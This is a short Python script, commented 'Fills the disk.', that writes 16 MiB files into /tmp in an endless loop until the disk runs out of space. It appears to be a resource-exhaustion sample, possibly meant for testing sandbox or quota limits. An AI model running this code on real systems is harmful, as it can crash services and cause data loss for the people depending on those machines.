# Fills the disk.

import itertools

for number in itertools.count():
    open(f'/tmp/{number}', 'wb').write(b'x' * (1 << 24))
